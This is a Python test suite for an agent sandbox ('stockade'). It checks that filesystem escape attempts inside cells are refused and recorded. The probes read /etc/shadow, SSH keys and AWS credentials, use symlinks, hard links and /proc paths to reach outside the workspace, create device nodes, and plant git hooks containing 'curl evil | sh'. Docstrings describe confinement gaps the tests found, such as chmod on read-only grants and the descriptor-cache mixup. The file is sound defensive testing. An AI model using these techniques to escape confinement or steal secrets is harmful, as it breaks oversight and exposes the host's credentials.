"""Filesystem escapes (THREATS.md, "Filesystem"), tried for real inside cells.

Each test asserts (a) the attempt failed, with the errno the refusing layer
gives, (b) the record says what was tried (layer, path, blockers), and (c) the
legitimate neighbour still works. A read-only mount, a discretionary
permission check and the VFS refusing a cross-mount link log nothing by
themselves; stockade's audit rules (cell/_audit_mount.py) record them as
layers ``mount`` and ``dac``. Where nothing records (a path absent from the
view), the docstring says so and the test asserts the strongest evidence there
is instead: the host is unchanged and nothing secret came out. Gaps that stockade itself could close
go through ``expect_record(..., gap=...)``: the test is then an expected
failure naming the gap, and fails outright once the record appears.
"""

from __future__ import annotations

import dataclasses
import errno
import os
from pathlib import Path

import pytest

from stockade.cell import Cell, CellResult
from stockade.errors import CellError
from stockade.policy import Policy, default_policy
from tests.escapes._fshost import (
    CreationWatch,
    canary,
    fake_home,
    read_only_grant,
    snapshot,
    with_fs,
)
from tests.escapes._probes import (
    PYTHON,
    Attempt,
    assert_landlock_denial,
    assert_mount_refusal,
    assert_refused,
    assert_seccomp_denial,
    assert_works,
    expect_record,
    leaked,
    run_probe,
    script,
)

EACCES, ENOENT, EPERM, EROFS, EBUSY, EXDEV, EBADF = (
    errno.EACCES,
    errno.ENOENT,
    errno.EPERM,
    errno.EROFS,
    errno.EBUSY,
    errno.EXDEV,
    errno.EBADF,
)


def _ws_root_owned(host_dir: Path, name: str = "ws") -> Path:
    ws = host_dir / name
    ws.mkdir()
    return ws


# ------------------------------------------------------------------ reading secrets


SECRET_FILES = [
    pytest.param("/etc/shadow", id="etc-shadow"),
    pytest.param("~/.ssh/id_rsa", id="ssh-id_rsa"),
    pytest.param("~/.ssh/id_ed25519", id="ssh-id_ed25519"),
    pytest.param("~/.ssh/config", id="ssh-config"),
    pytest.param("~/.ssh/authorized_keys", id="ssh-authorized_keys"),
    pytest.param("~/.aws/credentials", id="aws-credentials"),
]


@pytest.mark.parametrize("target", SECRET_FILES)
def test_read_host_secret(host_dir: Path, target: str) -> None:
    """/etc/shadow, and the credentials in the caller's home (a temporary HOME
    passed as the caller's environment, holding real files with a canary), are
    decoys in the cell: same names, no content, refused by Landlock and
    recorded under their path. The content never reaches the cell, its output
    or the record. A system file under /etc still reads (the control)."""
    secret = canary()
    home = fake_home(host_dir, secret)
    path = target.replace("~", str(home))
    with Cell(default_policy(), environ={"HOME": str(home)}) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("steal", f"return open({path!r}).read()"),
                Attempt("control", "return open('/etc/os-release').read()[:4]"),
            ],
        )
    assert_refused(probe["steal"], EACCES)
    assert_landlock_denial(probe, path, "fs.read_file")
    assert not leaked(probe, secret)
    assert assert_works(probe["control"])


def test_read_another_agents_workspace() -> None:
    """Agent A writes a secret in its fresh workspace; agent B, in its own cell,
    tries to read it by path and to list the workspaces. Fresh workspaces live
    under /var/lib/stockade/workspaces, which B sees as a decoy: A's file is an
    empty stand-in refused by Landlock (recorded), and so is the listing. B's
    own workspace stays usable (the control)."""
    secret = canary()
    with Cell(default_policy(), environ={}) as a:
        wrote = a.run(["/usr/bin/python3", "-c", f"open('secret.txt', 'w').write({secret!r})"])
        assert wrote.exit_code == 0, wrote.stderr
        stolen = os.path.join(a.workspace, "secret.txt")
        with Cell(default_policy(), environ={}) as b:
            probe = run_probe(
                b,
                [
                    Attempt("steal", f"return open({stolen!r}).read()"),
                    Attempt("list", "return os.listdir('/var/lib/stockade/workspaces')"),
                    Attempt("control", "open('mine.txt', 'w').write('b'); return open('mine.txt').read()"),
                ],
            )
    assert_refused(probe["steal"], EACCES)
    assert_landlock_denial(probe, stolen, "fs.read_file")
    assert_refused(probe["list"], EACCES)
    assert_landlock_denial(probe, "/var/lib/stockade/workspaces", "fs.read_dir")
    assert not leaked(probe, secret)
    assert assert_works(probe["control"]) == "b"


# ------------------------------------------------------------------ writing outside


OUTSIDE = [
    pytest.param("/escape.txt", "/", id="root"),
    pytest.param("/etc/escape.txt", "/etc", id="etc"),
    pytest.param("/usr/bin/escape", "/usr/bin", id="usr-bin"),
    pytest.param("/var/lib/stockade/escape.txt", "/var/lib/stockade", id="stockade-state"),
    pytest.param("/sys/kernel/escape", "/sys/kernel", id="sys-kernel"),
]


# a workbench's /etc and /usr are the image's, writable into the run's upper
# (test_workbench_escapes)
@pytest.mark.host_view
@pytest.mark.parametrize(("target", "directory"), OUTSIDE)
def test_write_outside_the_workspace(cell: Cell, target: str, directory: str) -> None:
    """Creating a file anywhere but the workspace and the cell's own /tmp is
    refused by Landlock (fs.make_reg on the directory), and recorded; the file
    appears nowhere on the host."""
    probe = run_probe(
        cell,
        [
            Attempt("escape", f"open({target!r}, 'w').write('x')"),
            Attempt("workspace", "open('inside.txt', 'w').write('ok'); return os.getcwd()"),
            Attempt("tmp", "open('/tmp/scratch', 'w').write('ok')"),
        ],
    )
    assert_refused(probe["escape"], EACCES)
    assert_landlock_denial(probe, directory, "fs.make_reg")
    assert assert_works(probe["workspace"]) == cell.workspace
    assert_works(probe["tmp"])
    assert Path(cell.workspace, "inside.txt").read_text() == "ok"
    assert not os.path.lexists(target)


def test_write_grant_inside_the_workspace_cannot_be_redirected(host_dir: Path) -> None:
    """A policy that also lists a directory of the workspace under
    ``filesystem.write`` (``ws/out``). In one run the agent replaces that
    directory with a symlink to a host directory it may not write (root's,
    mode 0755); the next cell (a new run of the same policy) must not grant
    the link's target. The plan resolves grants with realpath on the host,
    before the cell starts.

    Found by this test and closed: a nested write grant needed no mount of its
    own, so the next plan resolved the swapped ``ws/out`` to its target and
    mounted that writable. Now a grant inside a writable tree that leads
    through a symbolic link refuses to start the cell (a CellError naming the
    link), and the host directory stays untouched."""
    ws = _ws_root_owned(host_dir)
    (ws / "out").mkdir()
    outside = host_dir / "outside"
    outside.mkdir(mode=0o755)
    policy = with_fs(default_policy("escapes"), write=(str(ws / "out"),))
    with Cell(policy, workspace=ws, environ={}) as first:
        swap = run_probe(first, Attempt("swap", f"os.rmdir('out'); os.symlink({str(outside)!r}, 'out')"))
    assert_works(swap["swap"])  # it is the agent's own directory: fine
    with Cell(policy, workspace=ws, environ={}) as second, pytest.raises(CellError, match="symbolic link"):
        second.run(["/bin/true"])
    assert os.listdir(outside) == []
    # The control: without the planted link the same policy runs.
    os.unlink(ws / "out")
    (ws / "out").mkdir()
    with Cell(policy, workspace=ws, environ={}) as third:
        probe = run_probe(third, Attempt("control", "open('out/notes.txt', 'w').write('ok'); return True"))
    assert assert_works(probe["control"]) is True


# Each operation is a probe body acting on the file F (and its directory D).
READ_ONLY_OPS = {
    "overwrite": "f = open(F, 'r+b'); f.write(b'defaced'); f.close()",
    "truncate": "os.truncate(F, 0)",
    "rename": "os.rename(F, F + '.moved')",
    "delete": "os.unlink(F)",
    "chmod": "os.chmod(F, 0o777)",
}


@pytest.mark.parametrize("op", READ_ONLY_OPS)
def test_write_under_a_read_only_grant(host_dir: Path, op: str) -> None:
    """A host directory shown read-only (``filesystem.read``) whose files are
    world-writable, so that no discretionary check refuses first. A read grant
    that is not a system directory is a read-only mount (Landlock has no right
    for chmod, utimes or xattrs, so nothing else could refuse those on the
    agent's own files): every change, chmod included, fails with EROFS in the
    VFS and is on record as layer ``mount`` (``cell/_audit_mount``). The
    file is unchanged on the host in every case."""
    grant = host_dir / "ro"
    grant.mkdir(mode=0o777)
    grant.chmod(0o777)
    target = grant / "notes.txt"
    target.write_text("original\n")
    target.chmod(0o666)
    before = snapshot(target)
    policy = read_only_grant(default_policy("escapes"), grant)
    with Cell(policy, environ={}) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("attempt", f"F = {str(target)!r}\n{READ_ONLY_OPS[op]}"),
                Attempt("control", f"return open({str(target)!r}).read()"),
            ],
        )
    assert_refused(probe["attempt"], EROFS)
    assert assert_works(probe["control"]) == "original\n"
    assert snapshot(target) == before
    assert sorted(os.listdir(grant)) == ["notes.txt"]
    assert assert_mount_refusal(probe, probe["attempt"], target, grant).layer == "mount"


@pytest.mark.host_view  # a workbench's system directories are the image's, writable into the run's upper
@pytest.mark.parametrize("op", READ_ONLY_OPS)
def test_write_under_a_read_only_system_path(cell: Cell, op: str) -> None:
    """/etc/hosts, a root-owned system file in a read-only grant. rename and
    delete meet Landlock first (its path hooks run before the permission check)
    and are recorded. overwrite and truncate are refused by the discretionary
    check on open/truncate, which runs before Landlock's file hooks: host root
    is unmapped in the cell's user namespace, so the file is "other" to the
    agent (EACCES). chmod: no Landlock right, refused as not the owner
    (EPERM). Those three are on record as layer ``dac`` (the audit rules of
    ``cell/_audit_mount``). /etc/hosts is unchanged."""
    target = "/etc/hosts"
    before = snapshot(Path(target))
    probe = run_probe(
        cell,
        [
            Attempt("attempt", f"F = {target!r}\n{READ_ONLY_OPS[op]}"),
            Attempt("control", f"return len(open({target!r}).read()) >= 0"),
        ],
    )
    assert_refused(probe["attempt"], EPERM if op == "chmod" else EACCES)
    assert assert_works(probe["control"]) is True
    assert snapshot(Path(target)) == before
    if op in ("rename", "delete"):
        assert_landlock_denial(probe, "/etc", "fs.remove_file")
        # One refusal, one event: Landlock's record takes the call's SYSCALL record.
        assert not [e for e in probe.denials() if e.layer == "dac"], probe.transcript()
    else:
        dac = assert_mount_refusal(probe, probe["attempt"], target)
        assert dac.layer == "dac"


def test_a_cells_rules_survive_other_cells_in_the_same_process(host_dir: Path) -> None:
    """One process runs many cells (a daemon does). Cell A shows a host
    directory read-only; its 300 subdirectories are world-writable, so
    Landlock alone keeps them read-only. Between two runs of A, cell B is
    prepared with those 300 subdirectories granted one by one. A's second run
    must behave like its first: its command starts, its workspace is
    writable, and every write to its read-only grant is refused.

    BUG (found by this test): Landlock rules for host paths are built from
    O_PATH descriptors that ``_layers`` keeps in a process-wide cache of 256
    (``_HOST_FDS``, evicting the oldest), while a ``Cell`` reuses its prepared
    layers, descriptor *numbers* included, for ``PLAN_REUSE_SECONDS``. B's
    opens close A's descriptors and hand their numbers to B's directories, so
    A's cached rules name B's directories: here A loses /usr (exit 126,
    python's exec refused by Landlock), and its workspace rule (every write
    right) names one of the read-only directories (seen through
    /proc/self/fd: ws -> ro/d253), which an agent that could still exec would
    write; a number that
    names no O_PATH descriptor any more fails the start instead (EINVAL or
    EBADFD from landlock_add_rule, as seen intermittently across the suite).
    A single plan with more than 256 host paths (a larger /etc) evicts its
    own descriptors the same way."""
    import time

    from stockade.cell._cell import PLAN_REUSE_SECONDS

    grant = host_dir / "ro"
    grant.mkdir()
    dirs = []
    for i in range(300):
        d = grant / f"d{i:03d}"
        d.mkdir()
        d.chmod(0o777)
        dirs.append(str(d))
    policy_a = read_only_grant(default_policy("escapes"), grant)
    # B needs nothing but the grants (it need not even start): preparing it
    # is what opens the 300 descriptors.
    policy_b = with_fs(default_policy("escapes"), read=tuple(dirs), deny=(), protect=())
    attempts = [
        Attempt(
            "attempt",
            "import glob\nwritten = []\n"
            f"for d in sorted(glob.glob({str(grant)!r} + '/d*')):\n"
            "    try:\n"
            "        open(d + '/planted', 'w').write('x')\n"
            "        written.append(d)\n"
            "    except OSError:\n"
            "        pass\n"
            "return written",
        ),
        Attempt("control", "open('mine.txt', 'w').write('a'); return True"),
    ]
    with Cell(policy_a, environ={}) as a, Cell(policy_b, environ={}) as b:
        start = time.monotonic()
        first = run_probe(a, attempts)
        try:
            b.run(["/usr/bin/python3", "-c", "pass"])
        except CellError:
            pass
        try:
            second: object = a.run([PYTHON, "-I", "-c", script(attempts), "{}"])
        except CellError as exc:
            second = exc
        elapsed = time.monotonic() - start
    assert assert_works(first["attempt"]) == [] and assert_works(first["control"]) is True
    assert elapsed < PLAN_REUSE_SECONDS, f"inconclusive: A's plan was not reused ({elapsed:.2f} s)"
    planted = [d for d in dirs if os.listdir(d)]
    assert not planted, (
        f"ESCAPE: A's second run wrote into {len(planted)} read-only directories: {planted[:3]}"
    )
    assert isinstance(second, CellResult), f"A's second run could not start: {second}"
    denials = [e.summary for e in second.events if e.kind == "cell.denied"]
    assert second.exit_code == 0, (
        f"A's second run failed (exit {second.exit_code}, {second.stderr[-200:]!r}): its Landlock rules "
        f"no longer name its own paths; refusals: {denials[:3]}"
    )


METADATA_OPS = {
    "chmod-file": "os.chmod(F, 0o000)",
    "chmod-dir": "os.chmod(D, 0o777)",
    "utimes": "os.utime(F, (0, 0))",
    "utimes-now": "os.utime(F)",
    "fchmod": "fd = os.open(F, os.O_RDONLY)\ntry:\n    os.fchmod(fd, 0o777)\nfinally:\n    os.close(fd)",
    "chown-self": "os.chown(F, os.getuid(), os.getgid())",
    "setxattr": "os.setxattr(F, 'user.planted', b'x')",
}


@pytest.mark.parametrize("op", METADATA_OPS)
def test_metadata_of_a_read_only_grant_the_agent_owns(host_dir: Path, op: str) -> None:
    """A read-only grant whose files belong to the cell's own host identity (as
    when a user runs stockade on their own files, or root runs it for a
    workspace owned by that user). Landlock has no right covering chmod or
    utimes, and the files are the agent's own, so nothing but a read-only mount
    could refuse these: the directory and its file must be unchanged on the
    host afterwards.

    ESCAPE (found by this test): the grant is a plain bind (so that Landlock,
    not a read-only mount, refuses writes), and chmod/utimes go through: the
    agent can make a read-only host directory world-writable (0777) or lock
    its owner out of a file (0000)."""
    owner = 4242  # any unprivileged uid: the cell acts as the workspace's owner
    ws = _ws_root_owned(host_dir)
    grant = host_dir / "ro"
    grant.mkdir()
    target = grant / "notes.txt"
    target.write_text("original\n")
    for path in (ws, grant, target):
        os.chown(path, owner, owner)
    before = (snapshot(grant)[:3], snapshot(target))
    policy = read_only_grant(default_policy("escapes"), grant)
    with Cell(policy, workspace=ws, environ={}) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("attempt", f"F = {str(target)!r}\nD = {str(grant)!r}\n{METADATA_OPS[op]}"),
                Attempt("control", "open('mine.sh', 'w').write('#'); os.chmod('mine.sh', 0o755)"),
            ],
        )
    assert_works(probe["control"])
    after = (snapshot(grant)[:3], snapshot(target))
    assert not probe["attempt"].ok and after == before, (
        f"ESCAPE: {probe['attempt']}; the host's read-only {grant} went from {before} to {after}"
    )


@pytest.mark.parametrize("op", METADATA_OPS)
def test_metadata_of_the_agents_files_in_a_root_owned_grant(host_dir: Path, op: str) -> None:
    """The same class where only the files are the agent's: the granted
    directory is root's, a file and a subdirectory in it belong to the cell's
    host identity (a user's data in a shared tree). Looking at the grant's own
    owner was not enough (chmod went through). Every change fails with EROFS,
    is on record as layer ``mount`` naming the path, and the host is
    unchanged; the agent's own file in the workspace still takes a chmod (the
    control)."""
    owner = 4242
    ws = _ws_root_owned(host_dir)
    grant = host_dir / "shared"
    grant.mkdir()
    sub = grant / "mine"
    sub.mkdir()
    target = sub / "notes.txt"
    target.write_text("original\n")
    for path in (ws, sub, target):
        os.chown(path, owner, owner)
    before = (snapshot(sub)[:3], snapshot(target), os.listxattr(target))
    policy = read_only_grant(default_policy("escapes"), grant)
    with Cell(policy, workspace=ws, environ={}) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("attempt", f"F = {str(target)!r}\nD = {str(sub)!r}\n{METADATA_OPS[op]}"),
                Attempt(
                    "control", "open('mine.sh', 'w').write('#'); os.chmod('mine.sh', 0o755); return True"
                ),
            ],
        )
    assert assert_works(probe["control"]) is True
    assert_refused(probe["attempt"], EROFS)
    assert (snapshot(sub)[:3], snapshot(target), os.listxattr(target)) == before
    if op == "fchmod":  # a descriptor: the kernel logs the call, not the file's name
        assert [
            e
            for e in probe.denials()
            if e.layer == "mount" and e.detail.get("syscall") == "fchmod" and e.detail.get("errno") == "EROFS"
            and "of an open file" in e.summary
        ], probe.transcript()
    else:
        assert assert_mount_refusal(probe, probe["attempt"], target, sub).layer == "mount"


# ------------------------------------------------------------------ symlinks and links


SYMLINKS = {
    "absolute": (
        "os.symlink('/etc/shadow', 'planted')",
        "return open('planted').read()",
        "/etc/shadow",
        "fs.read_file",
    ),
    "dotdot-chained": (
        "os.symlink('../' * 24 + 'etc/shadow', 'planted')",
        "return open('planted').read()",
        "/etc/shadow",
        "fs.read_file",
    ),
    "dangling-o-creat": (
        "os.symlink('/etc/planted-by-agent', 'planted')",
        "open('planted', 'w').write('x')",
        "/etc",
        "fs.make_reg",
    ),
    "dotdot-dangling-o-creat": (
        "os.symlink('../' * 24 + 'usr/bin/planted-by-agent', 'planted')",
        "fd = os.open('planted', os.O_WRONLY | os.O_CREAT, 0o755); os.close(fd)",
        "/usr/bin",
        "fs.make_reg",
    ),
}


# its targets are the image's own files in a workbench (test_workbench_escapes: links never reach
# the host)
@pytest.mark.host_view
@pytest.mark.parametrize("kind", SYMLINKS)
def test_symlink_planted_in_the_workspace(cell: Cell, kind: str) -> None:
    """A symlink in the workspace that leads out of it resolves inside the
    cell's own view: whatever it names there is refused by Landlock and
    recorded under the resolved path. A link that stays inside the workspace
    works (the control)."""
    plant, use, path, blocker = SYMLINKS[kind]
    probe = run_probe(
        cell,
        [
            Attempt("plant", plant),
            Attempt("escape", use),
            Attempt(
                "control",
                "open('real.txt', 'w').write('in'); os.symlink('real.txt', 'inner')\n"
                "open('inner', 'a').write('side'); return open('inner').read()",
            ),
        ],
    )
    assert_works(probe["plant"])
    assert_refused(probe["escape"], EACCES)
    assert_landlock_denial(probe, path, blocker)
    assert assert_works(probe["control"]) == "inside"
    assert not os.path.lexists("/etc/planted-by-agent")
    assert not os.path.lexists("/usr/bin/planted-by-agent")


# its target is the host's /etc/hosts, not in the test image (test_workbench_escapes: hard links)
@pytest.mark.host_view
def test_hard_link_to_a_file_outside(cell: Cell) -> None:
    """``link('/etc/passwd', 'pw')`` and the same through /proc/self/fd with
    AT_SYMLINK_FOLLOW: the workspace is a mount of its own, so the VFS refuses a
    link across mounts (EXDEV) before any security hook runs; the kernel
    records nothing. Evidence: no link appears in the host's workspace and
    the host file's link count is unchanged. A hard link inside the workspace
    works (the control)."""
    nlink = os.stat("/etc/hosts").st_nlink
    probe = run_probe(
        cell,
        [
            Attempt("passwd", "os.link('/etc/passwd', 'pw')"),
            Attempt("hosts", "os.link('/etc/hosts', 'hosts')"),
            Attempt(
                "via-fd",
                "fd = os.open('/etc/hosts', os.O_RDONLY)\n"
                "os.link(f'/proc/self/fd/{fd}', 'hosts-fd', follow_symlinks=True)",
            ),
            Attempt("control", "open('a', 'w').write('x'); os.link('a', 'b'); return os.stat('b').st_nlink"),
        ],
    )
    for name in ("passwd", "hosts", "via-fd"):
        assert_refused(probe[name], EXDEV)
    assert assert_works(probe["control"]) == 2
    assert not {"pw", "hosts", "hosts-fd"} & set(os.listdir(cell.workspace))
    assert os.stat("/etc/hosts").st_nlink == nlink


MKNOD = [
    pytest.param("/dev/mem", "/dev", None, id="in-dev"),
    pytest.param("mem", None, None, id="in-workspace"),
]


@pytest.mark.parametrize(("target", "directory", "gap"), MKNOD)
def test_mknod_a_device(cell: Cell, target: str, directory: str | None, gap: str | None) -> None:
    """mknod of /dev/mem's device (char 1:1). Landlock refuses it (fs.make_char)
    and records it, in /dev and in the workspace alike: write grants never
    include device nodes (the cell has no CAP_MKNOD either, and the workspace is
    mounted nodev). A FIFO in the workspace still works (the control)."""
    probe = run_probe(
        cell,
        [
            Attempt("mknod", f"os.mknod({target!r}, stat.S_IFCHR | 0o666, os.makedev(1, 1))"),
            Attempt("control", "os.mkfifo('pipe'); return stat.S_ISFIFO(os.stat('pipe').st_mode)"),
        ],
    )
    assert_refused(probe["mknod"], EACCES if gap is None else EPERM)
    assert assert_works(probe["control"]) is True
    assert not os.path.lexists(os.path.join(cell.workspace, "mem"))
    path = directory or cell.workspace
    expect_record(probe, probe.landlock(path=path, blocker="fs.make_char"), "mknod", gap=gap)


@pytest.mark.host_view  # a workbench's /etc and /usr/bin are the image's, writable into the run's upper
@pytest.mark.parametrize("directory", ["/etc", "/usr/bin", "/"])
def test_mkfifo_outside_the_workspace(cell: Cell, directory: str) -> None:
    """A FIFO outside the workspace is refused by Landlock (fs.make_fifo) and
    recorded; one inside it works."""
    target = os.path.join(directory, "escape-fifo")
    probe = run_probe(
        cell,
        [
            Attempt("mkfifo", f"os.mkfifo({target!r})"),
            Attempt("control", "os.mkfifo('pipe'); return stat.S_ISFIFO(os.stat('pipe').st_mode)"),
        ],
    )
    assert_refused(probe["mkfifo"], EACCES)
    assert_landlock_denial(probe, directory, "fs.make_fifo")
    assert assert_works(probe["control"]) is True
    assert not os.path.lexists(target)


# ------------------------------------------------------------------ /proc and the view


@pytest.mark.host_view  # /etc/shadow through /proc/self/root is the image's own in a workbench
def test_proc_self_root(cell: Cell) -> None:
    """/proc/self/root is the cell's own root: /etc/shadow through it is the
    decoy, refused by Landlock and recorded under its path in the view."""
    probe = run_probe(
        cell,
        [
            Attempt("escape", "return open('/proc/self/root/etc/shadow').read()"),
            Attempt(
                "control",
                "return [os.readlink('/proc/self/root'), open('/proc/self/root/etc/hostname').read()]",
            ),
        ],
    )
    assert_refused(probe["escape"], EACCES)
    assert_landlock_denial(probe, "/etc/shadow", "fs.read_file")
    assert assert_works(probe["control"]) == ["/", "stockade\n"]


@pytest.mark.host_view  # /etc/shadow through /proc/self/cwd is the image's own in a workbench
def test_proc_self_cwd(cell: Cell) -> None:
    """/proc/self/cwd is the workspace; climbing out of it with .. stays in
    the cell's view, where /etc/shadow is the decoy (Landlock, recorded)."""
    probe = run_probe(
        cell,
        [
            Attempt("escape", "return open('/proc/self/cwd/' + '../' * 24 + 'etc/shadow').read()"),
            Attempt(
                "control", "open('here.txt', 'w').write('ws'); return open('/proc/self/cwd/here.txt').read()"
            ),
        ],
    )
    assert_refused(probe["escape"], EACCES)
    assert_landlock_denial(probe, "/etc/shadow", "fs.read_file")
    assert assert_works(probe["control"]) == "ws"


def test_proc_pid_root_of_a_host_process(cell: Cell, host_dir: Path) -> None:
    """/proc/<pid>/root of a host process (this test's own process, whose root
    is the host's /): the cell has a pid namespace and a proc of its own, so
    that pid does not exist there (ENOENT); no security layer is asked, and the
    kernel records nothing. Evidence: a host file is unreachable through it, and
    the cell's /proc lists only the cell's own: its init (pid 1) and the probe."""
    secret = canary()
    (host_dir / "secret.txt").write_text(secret)
    host_pid = os.getpid()
    probe = run_probe(
        cell,
        [
            Attempt("escape", f"return open('/proc/{host_pid}/root{host_dir}/secret.txt').read()"),
            Attempt("readlink", f"return os.readlink('/proc/{host_pid}/root')"),
            Attempt("pids", "return sorted(int(p) for p in os.listdir('/proc') if p.isdigit())"),
            # The probe's own: the cell's init (pid 1) changed uid and is not
            # dumpable, so its /proc entries are not the probe's to read.
            Attempt("control", "return os.readlink('/proc/self/root')"),
        ],
    )
    assert host_pid > 1
    assert_refused(probe["escape"], ENOENT)
    assert_refused(probe["readlink"], ENOENT)
    assert not leaked(probe, secret)
    assert assert_works(probe["pids"]) == [1, 2]
    assert assert_works(probe["control"]) == "/"


# ------------------------------------------------------------------ protected files


PROTECTED = [".git/hooks/pre-commit", ".git/config", ".bashrc", ".profile", ".mcp.json", "policy.yaml"]


def _protected_workspace(host_dir: Path, present: bool) -> tuple[Path, Policy]:
    """A root-owned workspace (idmapped in the cell) and the default policy
    loaded from ``policy.yaml`` inside it (``Policy.source``)."""
    ws = _ws_root_owned(host_dir)
    (ws / ".git").mkdir()
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    if present:
        (ws / ".git" / "hooks").mkdir()
        for rel in PROTECTED:
            (ws / rel).write_text(f"original {rel}\n")
    policy = dataclasses.replace(default_policy("escapes"), source=str(ws / "policy.yaml"))
    return ws, policy


@pytest.mark.parametrize("rel", PROTECTED)
def test_protected_file_in_the_workspace(host_dir: Path, rel: str) -> None:
    """Protected paths (default ``filesystem.protect`` and the policy file
    itself) that exist are read-only mounts inside the writable workspace
    (one that does not exist yet: the next test). Writing, deleting or renaming over one
    fails: EROFS for a write (the read-only mount refuses in mnt_want_write,
    before any security hook, so Landlock records nothing), EBUSY for
    unlink/rename (it is a mount point) or EXDEV for a rename into a pinned
    directory (another mount). Each refusal is on record through the audit
    rules of ``cell/_audit_mount`` (an EXDEV because it goes into a
    protected or pinned directory). Evidence: the host
    file is unchanged (or still absent) after the run. The file next to it
    stays writable (the control)."""
    present = True
    ws, policy = _protected_workspace(host_dir, present)
    target = ws / rel
    before = snapshot(target)
    with Cell(policy, workspace=ws, environ={}) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("write", f"open({rel!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')"),
                Attempt("delete", f"os.unlink({rel!r})"),
                Attempt("replace", f"open('payload', 'w').write('evil'); os.rename('payload', {rel!r})"),
                Attempt(
                    "control",
                    "open('.git/HEAD', 'a').write('#'); open('notes.txt', 'w').write('ok'); return True",
                ),
                # Asking is no attempt: it must leave no record.
                Attempt("ask", f"return os.access({rel!r}, os.W_OK)"),
            ],
        )
    assert_refused(probe["write"], EROFS)
    assert_refused(probe["delete"], EBUSY, EROFS)
    assert_refused(probe["replace"], EBUSY, EROFS, EXDEV)
    assert assert_works(probe["control"]) is True
    assert snapshot(target) == before
    assert (ws / ".git" / "HEAD").read_text().endswith("#")
    # Each attempt is on record (the kernel audit rules of cell/_audit_mount).
    assert_mount_refusal(probe, probe["write"], target, target.parent)
    assert_mount_refusal(probe, probe["delete"], target, target.parent)
    assert not [e for e in probe.denials("mount") if "control" in e.summary or "HEAD" in str(e.detail)]
    assert assert_works(probe["ask"]) is False
    assert not [
        e for e in probe.denials("mount") if e.detail.get("syscall") in ("access", "faccessat", "faccessat2")
    ]
    assert_mount_refusal(probe, probe["replace"], target, target.parent)


@pytest.mark.parametrize("rel", PROTECTED)
def test_protected_file_that_does_not_exist_yet_is_reported_and_reverted(host_dir: Path, rel: str) -> None:
    """A protected path that does not exist when the cell starts cannot be
    covered without making it (a placeholder git and the operator would see,
    and anyone could unlink to detach the mount), so its creation is not
    refused: it is the persistence report's. The attempt: create it, through
    a fresh parent where there is none. Evidence: the ``cell.persistence``
    event names it as created, ``stockade revert`` (``_revert.revert``) moves
    it out of the workspace into quarantine, and the ordinary file written
    beside it (the control) is neither reported nor touched."""
    from stockade.cell._revert import revert

    ws, policy = _protected_workspace(host_dir, present=False)
    records = host_dir / "records"
    target = ws / rel
    with Cell(policy, workspace=ws, environ={}, records=str(records)) as cell:
        probe = run_probe(
            cell,
            [
                Attempt(
                    "create",
                    f"os.makedirs(os.path.dirname({rel!r}) or '.', exist_ok=True); "
                    f"open({rel!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n'); os.chmod({rel!r}, 0o755)",
                ),
                Attempt("control", "open('notes.txt', 'w').write('ok'); return True"),
            ],
        )
    assert assert_works(probe["control"]) is True
    assert target.exists(), f"the attempt did not run: {probe['create']}"
    (report,) = [e for e in probe.events if e.kind == "cell.persistence"]
    listed = {c["path"]: c for c in report.detail["changes"]}
    assert listed[str(target)]["change"] == "created", report.detail
    assert str(ws / "notes.txt") not in listed
    assert report.detail["revert"] == f"stockade revert {probe.result.cell_id}"
    steps = revert(str(records), probe.result.cell_id)
    assert not os.path.lexists(target), steps
    assert (ws / "notes.txt").read_text() == "ok"
    assert (ws / ".git" / "HEAD").exists()


@pytest.mark.parametrize(
    ("parent", "present"),
    [(".git", False), (".git", True), (".git/hooks", True)],
    ids=[".git-absent", ".git-present", ".git/hooks-present"],
)
def test_rename_of_a_protected_parent(host_dir: Path, parent: str, present: bool) -> None:
    """Renaming the directory that holds a protected path (to put a fresh,
    writable one in its place) fails with EBUSY: every directory between the
    workspace and a protected path is a mount point, and so is every git
    directory, even one holding no hooks yet ("absent"). The VFS refuses before
    Landlock; the audit rules of ``cell/_audit_mount`` record the EBUSY and
    the EROFS. Evidence: no hook was planted on the host, and both refusals
    are on record. An ordinary directory renames fine (the control). Where
    ``.git/hooks`` does not exist, making it and a hook in it is not refused
    (nothing covers a path that does not exist): the persistence report
    names the hook as created."""
    ws, policy = _protected_workspace(host_dir, present)
    with Cell(policy, workspace=ws, environ={}, records=str(host_dir / "records")) as cell:
        probe = run_probe(
            cell,
            [
                Attempt("rename", f"os.rename({parent!r}, {parent + '-moved'!r})"),
                Attempt(
                    "plant",
                    "os.makedirs('.git/hooks', exist_ok=True)\n"
                    "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nevil\\n')",
                ),
                Attempt("control", "os.mkdir('src'); os.rename('src', 'lib'); return os.path.isdir('lib')"),
            ],
        )
    assert_refused(probe["rename"], EBUSY)
    assert assert_works(probe["control"]) is True
    assert_mount_refusal(probe, probe["rename"], ws / parent)
    assert not (ws / f"{parent}-moved").exists()
    hook = ws / ".git" / "hooks" / "pre-commit"
    if present:
        assert_refused(probe["plant"], EROFS)
        assert_mount_refusal(probe, probe["plant"], hook, ws / ".git" / "hooks")
        assert hook.read_text() == "original .git/hooks/pre-commit\n"
    else:
        assert_works(probe["plant"])
        (report,) = [e for e in probe.events if e.kind == "cell.persistence"]
        assert {c["path"]: c["change"] for c in report.detail["changes"]}[str(hook)] == "created"


def test_a_move_between_two_writable_places_is_no_refusal_on_record(host_dir: Path) -> None:
    """The control of the mount layer's records: ``os.rename`` from the cell's
    /tmp into the workspace crosses mounts (EXDEV, as for any ``mv``, which
    then copies). The kernel logs it like a rename into a protected directory,
    but both places are the cell's to write, so it is not kept; the same
    rename into ``.git/hooks`` (protected) is."""
    ws, policy = _protected_workspace(host_dir, present=True)
    with Cell(policy, workspace=ws, environ={}) as cell:
        probe = run_probe(
            cell,
            [
                Attempt(
                    "move", "open('/tmp/made.txt', 'w').write('x'); os.rename('/tmp/made.txt', 'made.txt')"
                ),
                Attempt(
                    "plant",
                    "open('/tmp/hook', 'w').write('x'); os.rename('/tmp/hook', '.git/hooks/post-merge')",
                ),
            ],
        )
    assert_refused(probe["move"], EXDEV)
    assert_refused(probe["plant"], EXDEV)
    assert_mount_refusal(probe, probe["plant"], ws / ".git" / "hooks")
